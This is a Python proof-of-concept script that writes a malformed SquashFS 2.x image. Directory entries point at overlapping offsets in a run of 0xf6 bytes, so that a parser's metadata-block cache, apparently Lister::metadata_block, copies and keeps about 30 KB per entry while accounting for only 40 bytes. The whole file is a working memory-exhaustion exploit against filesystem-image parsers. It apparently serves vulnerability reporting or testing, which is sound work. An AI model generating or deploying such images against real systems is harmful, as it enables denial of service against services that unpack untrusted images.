#!/usr/bin/env python3
"""SquashFS 2.x: directory entries whose inode references each point at a
different address inside a run of 0xf6 bytes. Every address there reads as an
uncompressed 30454-byte metadata block, which Lister::metadata_block copies
(to_vec) and caches forever; only 40 bytes per inode are charged."""
import struct, sys
N = int(sys.argv[1]) if len(sys.argv) > 1 else 10000
out = sys.argv[2] if len(sys.argv) > 2 else f"/tmp/sq2_metacache_{N}.bin"
SB = 96
inode_table = SB
# root inode block: uncompressed, 64 bytes
root = bytearray(64)
def setbits(buf, pos, width, value):
    for i in range(width):
        if value >> i & 1:
            buf[(pos + i) // 8] |= 1 << ((pos + i) % 8)
dir_size = 8 * N
assert dir_size < (1 << 19)
setbits(root, 0, 4, 1)          # DIR
setbits(root, 4, 12, 0o755)
setbits(root, 32, 19, dir_size)
setbits(root, 51, 13, 0)        # offset
setbits(root, 96, 24, 0)        # start block (relative to directory table)
itab = struct.pack('<H', 0x8000 | len(root)) + bytes(root)
region_start_rel = len(itab)    # first 0xff address relative to inode_table
FILL = 0xf6  # word 0xf6f6: stored, 30454 bytes; as an inode: type 6 (FIFO)
region = bytes([FILL]) * (N + 30460)
itab += region
directory_table = inode_table + len(itab)
# directory listing
listing = bytearray()
for i in range(N):
    start = region_start_rel + i
    listing += bytes([0]) + struct.pack('<I', start)[:3]       # count-1=0, start
    listing += struct.pack('<H', 0 | (2 << 13)) + bytes([0]) + b'a'  # offset 0, type REG, name_len-1=0
dtab = bytearray()
for k in range(0, len(listing), 32000):
    chunk = listing[k:k+32000]
    dtab += struct.pack('<H', 0x8000 | len(chunk)) + chunk
img = bytearray(SB) + itab + dtab + b'\0' * 16
total = len(img)
sb = bytearray(SB)
sb[0:4] = b'hsqs'
struct.pack_into('<I', sb, 4, N + 1)
struct.pack_into('<I', sb, 8, total)
struct.pack_into('<I', sb, 12, total - 8)
struct.pack_into('<I', sb, 16, total - 8)
struct.pack_into('<I', sb, 20, inode_table)
struct.pack_into('<I', sb, 24, directory_table)
struct.pack_into('<H', sb, 28, 2)
struct.pack_into('<H', sb, 30, 1)
struct.pack_into('<H', sb, 32, 4096)
struct.pack_into('<H', sb, 34, 12)
sb[36] = 0; sb[37] = 1; sb[38] = 0
struct.pack_into('<Q', sb, 43, 0)          # root ref: block 0 offset 0
struct.pack_into('<I', sb, 51, 4096)
struct.pack_into('<I', sb, 55, 0)
struct.pack_into('<I', sb, 59, total - 8)
img[0:SB] = sb
open(out, 'wb').write(img)
print(out, len(img))
